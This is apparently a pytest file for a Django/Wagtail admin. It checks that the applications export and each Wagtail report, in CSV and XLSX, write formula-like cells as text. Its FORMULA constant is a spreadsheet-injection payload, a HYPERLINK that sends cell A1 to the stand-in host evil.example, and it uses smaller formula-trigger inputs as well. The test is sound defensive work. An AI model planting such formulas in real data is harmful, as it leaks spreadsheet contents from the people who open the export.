"""Every spreadsheet the admin serves writes a would-be formula as text: the applications export
and each of Wagtail's reports (site history, workflows, workflow tasks, locked and aging pages,
page types), in CSV and XLSX."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from review_workflow.spreadsheets import spreadsheet_cell
from tests.factories import (
    UserFactory,
    admin_login,
    bulletin,
    school,
    student,
    submitted_application,
)

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"點我")'
EXPORTS = [
    "application:list",
    "wagtailadmin_reports:site_history",
    "wagtailadmin_reports:workflow",
    "wagtailadmin_reports:workflow_tasks",
    "wagtailadmin_reports:locked_pages",
    "wagtailadmin_reports:aging_pages",
    "wagtailadmin_reports:page_types_usage",
]


def cells(response, export_format) -> list[str]:
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
    workbook = load_workbook(io.BytesIO(content))
    return [str(c.value) for row in workbook.active.iter_rows() for c in row if c.value]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_that_starts_like_a_formula_is_text(value):
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["陳小花", "0912123456", "", None, 3, "a=b"])
def test_other_cells_are_left_as_they_are(value):
    assert spreadsheet_cell(value) == value


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("name", EXPORTS)
def test_no_export_the_site_serves_holds_a_formula(client, home_page, name, export_format):
    superuser = UserFactory(is_staff=True, is_superuser=True)
    pupil = student(school=school(), name=FORMULA)
    submitted_application(student=pupil)  # in review: the workflow reports, the site history
    page = bulletin(title=FORMULA, date=datetime.date(2020, 8, 5))
    page.locked, page.locked_by, page.locked_at = True, superuser, page.first_published_at
    page.last_published_at = datetime.datetime(2020, 8, 5, tzinfo=datetime.UTC)  # aging
    page.save()
    admin_login(client, superuser)

    response = client.get(reverse(name), {"export": export_format})

    assert response.status_code == 200
    exported = cells(response, export_format)
    assert [cell for cell in exported if cell.startswith(("=", "+", "-", "@"))] == []
    if name != "wagtailadmin_reports:page_types_usage":  # its export has no rows (Wagtail 8)
        assert any(cell.startswith("'" + FORMULA) for cell in exported), exported
